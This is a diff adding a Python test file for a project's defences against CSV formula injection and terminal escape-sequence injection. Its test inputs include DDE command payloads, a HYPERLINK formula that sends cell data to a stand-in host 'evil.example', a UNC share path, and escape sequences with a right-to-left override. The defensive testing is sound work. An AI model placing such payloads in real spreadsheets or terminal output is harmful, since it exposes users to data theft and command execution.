@@ -1,0 +1,91 @@
+"""Formulas in CSV files and commands to terminals, in labels, words, names and notes."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.mrn.alignments.mapping_file import parse_mapping, template
+from core.plain_text import spreadsheet_cell, terminal_text, unguarded_cell
+from jobs.sheets import csv_text
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0", "\t=1+cmd|'x'!A0", " =IMPORTXML(A1)", "＝cmd|'x'!A0",
+    "a;=HYPERLINK(A1)", "a\t=HYPERLINK(A1)", "=http://evil.example/a", r"='\\evil\share\[book]x'!A1",
+)  # fmt: skip
+LABELS = (
+    "-LRB-",
+    "-",
+    "+",
+    "=",
+    "--",
+    "O",
+    "B-PER",
+    "=A",
+    "$",
+    "''",
+    "``",
+    ":",
+    "#",
+    "-1.5",
+    "1e-05",
+    "-1e+05",
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_is_a_formula(text: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(csv_text(["label"], [{"label": text}]), newline=""))
+    cell = row["label"]
+    assert cell != text
+    assert unguarded_cell(cell) == text
+    assert csv_text(["label"], [{"label": "\r=WEBSERVICE(A1)"}]) == "label\n '=WEBSERVICE(A1)\n"
+    # Wherever a spreadsheet lets a cell begin, it begins with an apostrophe.
+    assert not [part for part in cell.replace("\t", ";").split(";") if _is_formula(part)]
+
+
+def _is_formula(part: str) -> bool:
+    return part.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
+
+
+@pytest.mark.parametrize("text", LABELS)
+def test_labels_of_corpora_and_numbers_stay_as_they_are(text: str) -> None:
+    assert spreadsheet_cell(text) == text
+
+
+@pytest.mark.parametrize("value", [-1.5, 3, None, True])
+def test_what_is_no_text_stays_as_it_is(value: object) -> None:
+    assert spreadsheet_cell(value) is value
+
+
+@given(st.text(alphabet="=+-@'a1;\t(|! \"", max_size=12))
+def test_a_guarded_cell_can_be_read_back(text: str) -> None:
+    assert unguarded_cell(str(spreadsheet_cell(text))) == text
+
+
+@given(st.lists(st.sampled_from([*FORMULAS[:5], *LABELS, "'=HYPERLINK(A1)"]), min_size=1, unique=True))
+def test_a_mapping_of_hostile_labels_comes_back_from_its_template(labels: list[str]) -> None:
+    read = parse_mapping(template([("=cmd|'x'!A0", labels)]).encode(), "mapping.csv")
+    assert [(one.task, one.label, one.general) for one in read.rows] == [
+        ("=cmd|'x'!A0", label, label) for label in labels
+    ]
+
+
+def test_a_terminal_is_not_commanded() -> None:
+    hostile = "\x1b]0;owned\x07\x1b[2J\x9b31mred\x00\x08\rover \u202egnp.exe"
+    assert terminal_text(hostile) == r"\x1b]0;owned\x07\x1b[2J\x9b31mred\x00\x08\x0dover \u202egnp.exe"
+    assert terminal_text("naïve\tλ → 名\nnext\r\n") == "naïve\tλ → 名\nnext\n"
+
+
+@given(st.text())
+def test_nothing_but_lines_and_tabs_is_left_to_command(text: str) -> None:
+    assert not [mark for mark in terminal_text(text) if not mark.isprintable() and _commands(mark)]
+
+
+def _commands(mark: str) -> bool:
+    return mark not in "\n\t" and (ord(mark) < 32 or 127 <= ord(mark) < 160)
